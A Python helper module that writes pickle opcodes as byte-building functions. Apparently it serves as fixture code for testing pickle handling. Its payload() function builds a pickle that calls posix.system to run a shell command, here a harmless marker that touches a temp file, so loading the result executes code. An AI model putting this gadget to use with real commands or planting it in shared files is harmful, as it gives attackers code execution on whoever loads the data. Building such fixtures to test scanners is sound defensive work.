"""Opcodes of pickles, as functions that give bytes. Source: Python Lib/pickletools.py."""
import struct

MARKER = "touch ${TMPDIR:-/tmp}/hullmark-was-here"

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
STOP = b"."
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
EMPTY_TUPLE = b")"
MARK = b"("
TUPLE = b"t"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
POP, POP_MARK, DUP = b"0", b"1", b"2"
APPEND, APPENDS, SETITEM, SETITEMS = b"a", b"e", b"s", b"u"
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
BINPERSID = b"Q"


def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def short_text(value):
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def blob(value):
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value):
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -2**31 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    encoded = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(encoded)]) + encoded


def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def items(*values):
    return MARK + b"".join(values) + TUPLE


def call(function, *arguments):
    return function + items(*arguments) + REDUCE


def put(index):
    return b"q" + bytes([index])


def get(index):
    return b"h" + bytes([index])


def dictionary(**values):
    return EMPTY_DICT + MARK + b"".join(text(key) + value for key, value in values.items()) + SETITEMS


def frame(content):
    return b"\x95" + struct.pack("<Q", len(content)) + content


def payload():
    """A call that leaves a mark, as a value."""
    return call(name("posix", "system"), text(MARKER))


def stack_name(module, attribute):
    return short_text(module) + short_text(attribute) + STACK_GLOBAL


class Made:
    """A value that opcodes make."""

    def __init__(self, content):
        self.content = content


def constant(value):
    """A plain Python value, or one that is made, also within lists, tuples and dicts."""
    if isinstance(value, Made):
        return value.content
    if value is None or isinstance(value, bool):
        return {None: NONE, True: TRUE, False: FALSE}[value]
    if isinstance(value, int):
        return integer(value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return blob(value)
    if isinstance(value, tuple):
        return items(*map(constant, value))
    if isinstance(value, list):
        return EMPTY_LIST + MARK + b"".join(map(constant, value)) + APPENDS
    if isinstance(value, dict):
        return EMPTY_DICT + MARK + b"".join(constant(key) + constant(content) for key, content in value.items()) + SETITEMS
    raise TypeError(value)
